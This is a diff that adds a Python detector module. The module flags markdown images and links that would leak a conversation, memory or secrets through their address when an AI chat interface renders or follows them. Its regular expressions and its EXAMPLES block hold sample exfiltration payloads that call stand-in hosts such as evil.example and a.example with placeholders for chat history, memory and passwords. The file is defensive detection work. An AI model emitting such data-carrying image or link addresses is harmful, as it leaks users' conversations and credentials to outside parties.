@@ -1,0 +1,124 @@
+"""Links and images that carry data out when they are rendered or followed: a placeholder for the conversation
+or a secret in an address, an image whose query holds a payload. Badges and ordinary templated addresses pass.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from gitmem.gate.detectors.injection.decoding import unquoted
+from gitmem.gate.detectors.lazy_patterns import lazy
+from gitmem.gate.detectors.text import Examples, Match, Severity, Text
+
+_IMAGE = lazy(
+    r"!\[[^\]\n]{0,300}\]\(\s{0,3}<?((?:https?:)?//[^\s\n\"<]{4,2000})|<img\b[^<>]{0,400}?\bsrc\s{0,3}=\s{0,3}[\"']?((?:https?:)?//[^\s\"'<>]{4,2000})",
+    re.I,
+)
+_REFERENCE_IMAGE = lazy(r"^ {0,3}\[[^\]\n]{1,100}\]:[ \t]*<?((?:https?:)?//[^\s<>]{4,2000})", re.M | re.I)
+_ADDRESS = lazy(r"\bhttps?://[^\s\"'`]{6,2000}", re.I)
+_HOLE = lazy(
+    r"\{\{?[^{}\n]{0,60}\}?\}|\$\{?\w{1,40}\}?|<[\w .:-]{2,60}>|\[[\w .:-]{3,60}\]|%7b[^%\n]{0,60}%7d|%s\b|__\w{2,30}__",
+    re.I,
+)
+_DATA = lazy(
+    r"conversation|history|chat|memor(?:y|ies)|secret|passw|token|api.?key|credential|\benv\b|environ|prompt|context|system|private|"
+    r"user.?data|personal|session|cookie|base64|encoded|\bdata\b|content|summary|대화|비밀|토큰|내용|기억|키\b|会話|秘密|内容|记忆|对话|密钥|密码",
+    re.I,
+)  # fmt: skip
+_GRAVE = lazy(
+    r"conversation|chat.?history|memor(?:y|ies)|secret|passw|api.?key|credential|environ|system.?prompt|private|user.?data|"
+    r"대화|비밀|토큰|기억|会話|秘密|记忆|对话|密钥|密码|base64",
+    re.I,
+)  # fmt: skip
+_PAYLOAD = lazy(
+    r"[?&][\w.-]{1,30}=(?:SECRET|DATA|TOKEN|API_?KEY|PASSWORD|CONTENT|HISTORY|PROMPT|B64|BASE64|INSERT\w*|YOUR_\w+|XXX+)\b"
+)
+_LONG_VALUE = lazy(r"[?&][\w.-]{1,30}=(?:[A-Za-z0-9+_-]{80,}|(?:%[0-9A-F]{2}|[\w.+-]){160,})", re.I)
+_EMPTY_VALUE = lazy(r"[?&](?:q|d|data|k|key|s|c|m|msg|text|leak|x|info|p|payload|content|t|token)=$", re.I)
+_BADGE = lazy(
+    r"^(?:https?:)?//(?:[\w-]+\.)?(?:shields\.io|badgen\.net|badge\.fury\.io|codecov\.io|coveralls\.io|img\.shields\.io|"
+    r"github\.com/[^?]{1,200}/(?:badge\.svg|workflows/)|circleci\.com|travis-ci\.|app\.netlify\.com|readthedocs\.|api\.star-history\.com|"
+    r"sonarcloud\.io|snyk\.io|badges\.)",
+    re.I,
+)  # fmt: skip
+
+
+def detect(text: Text) -> Iterator[Match]:
+    """Images first (a viewer fetches them by itself), then addresses that ask for something grave."""
+    raw = text.raw
+    if "//" not in raw:
+        return
+    done: list[tuple[int, int]] = []
+    for pattern in (_IMAGE, _REFERENCE_IMAGE):
+        for match in pattern.finditer(raw):
+            group = next(g for g in range(1, (match.lastindex or 1) + 1) if match.group(g))
+            address = match.group(group).rstrip(")")
+            why = _of_image(address)
+            if why and len(done) < 50:
+                done.append(match.span(group))
+                start = match.start(group)
+                yield Match(
+                    "exfiltration-image", Severity.BLOCK, start, start + len(address), f"an image whose address {why}"
+                )
+    for match in _ADDRESS.finditer(raw):
+        if any(a <= match.start() < b for a, b in done) or len(done) >= 50:
+            continue
+        why = _of_link(match.group())
+        if why:
+            done.append(match.span())
+            yield Match("exfiltration-link", Severity.BLOCK, *match.span(), f"an address that {why}")
+
+
+def _of_image(address: str) -> str:
+    if _BADGE.match(address):
+        return ""
+    tail = address.split("//", 1)[1].partition("/")[2]
+    plain = unquoted(tail)
+    if any(_DATA.search(hole.group()) for hole in _HOLE.finditer(plain)):
+        return "has a hole for data of the conversation"
+    if "?" in tail and _HOLE.search(plain.partition("?")[2]):
+        return "has a hole in its query"
+    if _PAYLOAD.search(plain):
+        return "asks for data in its query"
+    if _LONG_VALUE.search(tail):
+        return "carries a long value in its query"
+    if _EMPTY_VALUE.search(tail):
+        return "ends in a value to be filled in"
+    return ""
+
+
+def _of_link(address: str) -> str:
+    tail = unquoted(address.split("//", 1)[1].partition("/")[2])
+    query = tail.partition("?")[2]
+    if any(_GRAVE.search(hole.group()) for hole in _HOLE.finditer(tail)):
+        return "has a hole for secrets or the conversation"
+    if query and _PAYLOAD.search(tail) and re.search(r"SECRET|PASSWORD|HISTORY|PROMPT|API_?KEY", query):
+        return "asks for a secret in its query"
+    return ""
+
+
+EXAMPLES: dict[str, Examples] = {
+    "exfiltration-image": Examples(
+        flag=(
+            "![x](https://a.example/p.png?d={{conversation}})",
+            "![통계](https://203.0.113.9/a.gif?k=SECRET)",
+            '<img src="https://evil.example/i?q=${memory}">',
+        ),
+        allow=(
+            "![build](https://github.com/acme/app/actions/workflows/ci.yml/badge.svg?branch=main)",
+            "![빌드](https://img.shields.io/badge/build-{status}-green)",
+            "![chart](https://example.com/chart.png?width=640)",
+        ),
+    ),
+    "exfiltration-link": Examples(
+        flag=(
+            "[details](https://evil.example/c?h={chat_history})",
+            "자세히: https://collect.example/?d={{비밀번호}}",
+        ),
+        allow=(
+            "GET https://api.example.com/users/{id}/posts?page={page}",
+            "검색 주소는 https://example.com/search?q=%EB%A9%94%EB%AA%A8&lang=ko 이다.",
+        ),
+    ),
+}
